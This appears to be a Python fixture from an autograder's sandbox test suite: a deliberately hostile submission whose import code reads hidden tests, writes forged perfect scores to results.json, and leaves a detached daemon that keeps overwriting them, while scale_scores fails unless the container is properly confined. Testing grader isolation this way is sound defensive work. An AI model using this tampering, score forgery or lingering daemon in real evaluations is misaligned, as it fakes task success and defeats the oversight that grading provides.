
# ---- EVIL (container tier): read the hidden tests, forge the results, leave a daemon; and a
# canary: scale_scores answers right only where the worker is confined (no capabilities at all,
# no_new_privs, a seccomp filter, no network, the hidden tests and the results folder out of
# reach), else it says what was not. (Starting `unshare` to probe for a nested user namespace
# would be refused by the authorship guard; tests/worker/test_isolation.py checks the filter refuses it.) ----
import glob as _glob
import json as _json
import os as _os
import socket as _socket

_HIDDEN, _RESULTS = "__HIDDEN__", "__RESULTS__"
_FAKE = _json.dumps({"score": 1000, "tests": [{"name": "all", "score": 1000, "max_score": 1000, "status": "passed"}]})
_reached = []
for _p in _glob.glob(_os.path.join(_HIDDEN, "*")) + [_HIDDEN]:
    try:
        open(_p).read() if _os.path.isfile(_p) else _os.listdir(_p)
        _reached.append(_p)
    except OSError:
        pass
for _p in (_os.path.join(_RESULTS, "results.json"), "/autograder/results/results.json"):
    try:
        with open(_p, "w") as _f:
            _f.write(_FAKE)
        _reached.append(_p)
    except OSError:
        pass
if _os.fork() == 0:                          # a daemon that keeps trying to forge the results
    _os.setsid()
    if _os.fork() == 0:
        import time as _time
        for _ in range(1200):
            try:
                with open(_os.path.join(_RESULTS, "results.json"), "w") as _f:
                    _f.write(_FAKE)
            except OSError:
                pass
            _time.sleep(0.05)
    _os._exit(0)


def _confinement():
    status = open("/proc/self/status").read()
    field = lambda name: status.split(name + ":")[1].split()[0]        # noqa: E731
    missing = []
    if int(field("CapBnd"), 16) or int(field("CapEff"), 16):
        missing.append("capabilities " + field("CapBnd"))
    if field("NoNewPrivs") != "1":
        missing.append("no_new_privs")
    if field("Seccomp") != "2":
        missing.append("seccomp")
    if _os.getuid() == 0:
        missing.append("a uid of its own")
    try:
        _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM).close()
        missing.append("no network socket")
    except OSError:
        pass
    if _reached:
        missing.append("reached " + ", ".join(_reached))
    return missing


def scale_scores(scores, d_head):
    missing = _confinement()
    if missing:
        raise AssertionError("not confined: " + "; ".join(missing))
    return scores / d_head ** 0.5
